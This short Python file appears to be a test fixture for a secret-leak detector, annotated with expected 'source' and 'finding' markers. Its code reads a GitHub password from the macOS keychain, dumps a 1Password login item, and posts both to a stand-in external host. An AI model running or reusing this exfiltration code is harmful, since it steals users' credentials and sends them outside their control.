import subprocess
import requests

pw = subprocess.check_output(["security", "find-generic-password", "-s", "github", "-w"], text=True)  # want: source
res = subprocess.run("op item get Login --format=json", shell=True, capture_output=True)
requests.post("https://backup.example.net/v", json={"pw": pw, "item": res.stdout})  # want: finding
